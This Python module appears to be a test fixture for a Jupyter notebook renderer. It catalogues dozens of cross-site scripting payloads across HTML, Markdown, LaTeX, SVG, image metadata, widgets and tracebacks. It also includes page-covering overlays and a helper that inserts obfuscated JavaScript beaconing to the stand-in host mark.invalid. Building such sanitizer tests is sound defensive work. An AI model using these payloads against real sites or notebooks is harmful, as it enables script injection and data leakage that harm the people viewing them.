"""What a hostile cell displays: each text would run, load, lead away, or cover the page.

`MARK` stands for JavaScript that leaves a mark, `URL` for an address that must not be asked for.
"""

MARKS = "mark.invalid"
"""The server that is asked where something has run or was loaded."""

HTML = {
    "script": "<script>MARK</script>",
    "script elsewhere": "<script src=URL></script>",
    "img onerror": '<img src="x" onerror="MARK">',
    "onerror, slashes": "<img/src=x/onerror=MARK/alt=x>",
    "svg onload": '<svg onload="MARK"></svg>',
    "svg script": "<svg><script>MARK</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:MARK />"
    "<text>a</text></a></svg>",
    "iframe srcdoc": '<iframe srcdoc="<script>MARK</script>"></iframe>',
    "iframe javascript": '<iframe src="javascript:MARK"></iframe>',
    "iframe elsewhere": "<iframe src=URL></iframe>",
    "object": '<object data="data:text/html,<script>MARK</script>"></object>',
    "embed": '<embed src="data:text/html,<script>MARK</script>">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "base": '<base href="URL/"><img src="a.png">',
    "link": '<link rel="stylesheet" href="URL">',
    "import": "<style>@import 'URL';</style>",
    "background": '<style>body { background: url("URL") }</style>',
    "style background": '<p style="background: url(URL)">a</p>',
    "style image": '<p style="list-style-image: url(URL); display: list-item">a</p>',
    "img elsewhere": '<img src="URL">',
    "srcset": '<img srcset="URL 1x">',
    "picture": '<picture><source srcset="URL"><img></picture>',
    "video": '<video poster="URL" src="URL"></video>',
    "audio": '<audio src="URL" autoplay></audio>',
    "input image": '<input type="image" src="URL">',
    "table background": '<table background="URL"><tr><td>a</td></tr></table>',
    "details": "<details open ontoggle=MARK>a</details>",
    "autofocus": '<input autofocus onfocus="MARK">',
    "hover": "<p onmouseover=MARK>a</p>",
    "link javascript": '<a href="javascript:MARK">a</a>',
    "link with tab": '<a href="java\tscript:MARK">a</a>',
    "link with entities": '<a href="&#106;avascript&colon;MARK">a</a>',
    "link twice": '<a href="https://example.org" href="javascript:MARK">a</a>',
    "link in files": '<a href="files/javascript:MARK">a</a>',
    "form": '<form action="javascript:MARK"><button>a</button></form>',
    "button": '<button formaction="javascript:MARK" form="f">a</button><form id="f"></form>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=MARK>"></noscript>',
    "comment": "<!--><img src=x onerror=MARK>-->",
    "comment bang": "<!-- --!><img src=x onerror=MARK> -->",
    "instruction": "<?x <img src=x onerror=MARK> ?>",
    "cdata": "<svg><![CDATA[<img src=x onerror=MARK>]]></svg>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=MARK&gt;">',
    "template": '<template shadowrootmode="open"><img src=x onerror=MARK></template>',
    "out of its cell": "</div></div></div></div><img src=x onerror=MARK>",
    "open quote": '<p title="</p><img src=x onerror=MARK>',
    "covers, fixed": '<div style="position: fixed; inset: 0; background: white">100</div>',
    "covers, class": '<div class="navbar-fixed-top" style="background: white">100</div>',
    "covers, margin": '<div style="margin-top: -3000px; padding-bottom: 3000px; width: 100%;'
    ' background-color: white">100</div>',
    "covers, transform": '<div style="transform: scale(100); background-color: red">100</div>',
    "covers, modal": '<div class="modal-backdrop in">100</div>',
    "takes an id": '<h2 id="check_add">a</h2><p id="why-comment">b</p>',
}
"""Displayed as HTML, shown as Markdown, and put into a Markdown and a raw cell."""

MARKDOWN = {
    "link": "[a](javascript:MARK)",
    "link with space": "[a](<javascript:MARK>)",
    "link by name": "[a][b]\n\n[b]: javascript:MARK",
    "bare link": "<javascript:MARK>",
    "link in files": "[a](files/javascript:MARK)",
    "link with entities": "[a](&#106;avascript:MARK)",
    "data link": "[a](data:text/html,<script>MARK</script>)",
    "image": "![a](URL)",
    "image with quote": '![a](x"onerror=MARK"b)',
    "title with quote": "![a](x 'b\" onerror=MARK c=\"')",
    "formula": "$a <img src=x onerror=MARK> b$ and $$<img src=x onerror=MARK>$$",
    "environment": "\\begin{align}<img src=x onerror=MARK>\\end{align}",
    "language": '```"><img src=x onerror=MARK>\na\n```',
    "mermaid": "```mermaid\n</pre><img src=x onerror=MARK>\n```",
    "attachment": "![a](attachment:a.png)",
    "no attachment": "![a](attachment:none.png)",
    "heading": "# check_add\n\n## check_multiply",
    "in a table": "| a |\n|---|\n| <img src=x onerror=MARK> |",
}
"""Only as Markdown."""

ATTACHMENTS = {"a.png": {"image/png": 'x" onerror="MARK'}}
"""Of every Markdown cell."""

PICTURE = "iVBORw0KGgo="

OTHERS = {
    "javascript": ({"application/javascript": "MARK"}, {}),
    "old javascript": ({"text/javascript": "MARK"}, {}),
    "svg": ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='MARK'/>"}, {}),
    "latex": ({"text/latex": "$a$ <img src=x onerror=MARK>"}, {}),
    "latex link": ({"text/latex": "$\\href{javascript:MARK}{a}$"}, {}),
    "plain": ({"text/plain": "\x1b[31m<img src=x onerror=MARK>\x1b[0m"}, {}),
    "mermaid": ({"text/vnd.mermaid": "</pre><img src=x onerror=MARK>"}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"a": "</script><script>MARK"}}, {}),
    "vega": ({"application/vnd.vega.v5+json": {"data": "URL"}, "text/html": "<b>a</b>"}, {}),
    "pdf": ({"application/pdf": "URL"}, {}),
    "data with quote": ({"image/png": '"><img src=x onerror=MARK>'}, {}),
    "width": ({"image/png": PICTURE}, {"image/png": {"width": "1 onerror=MARK"}}),
    "height": ({"image/jpeg": PICTURE}, {"height": "1 onerror=MARK"}),
    "width in a table": ({"image/png": PICTURE}, {"image/png": {"width": {"1 onerror=MARK": 1}}}),
    "file name": ({"image/png": PICTURE}, {"filenames": {"image/png": "URL"}}),
    "alt": ({"image/png": PICTURE}, {"image/png": {"alt": '" onerror=MARK'}}),
    "isolated": ({"text/html": "<script>MARK</script>"}, {"text/html": {"isolated": True}}),
    "widget of no model": ({"application/vnd.jupyter.widget-view+json": []}, {}),
}
"""Other kinds of outputs: data and metadata."""

CODE = {
    "error": "raise type('<img src=x onerror=MARK>', (Exception,), {})('<img src=x onerror=MARK>')",
    "rendered error": "class Odd(Exception):\n"
    "    def _render_traceback_(self):\n        return ['<img src=x onerror=MARK>']\n"
    "raise Odd",
    "stream": "print('\\x1b[31m<img src=x onerror=MARK>\\x1b[0m')",
    "source": "# <img src=x onerror=MARK> </pre></div><script>MARK</script>",
}
"""Other cells of code."""


def filled(value, name):
    """Return a text, or what holds texts, with a mark of this name in the place of `MARK`."""
    if isinstance(value, dict):
        return {filled(key, name): filled(item, name) for key, item in value.items()}
    if not isinstance(value, str):
        return value
    address = f"http://{MARKS}/{name.replace(' ', '-').replace(',', '')}"
    codes = ",".join(str(ord(character)) for character in address)  # no quotes of any kind
    script = f"(window.pwned=1,(new/**/Image).src=String.fromCharCode({codes}))"
    return value.replace("MARK", script).replace("URL", address)
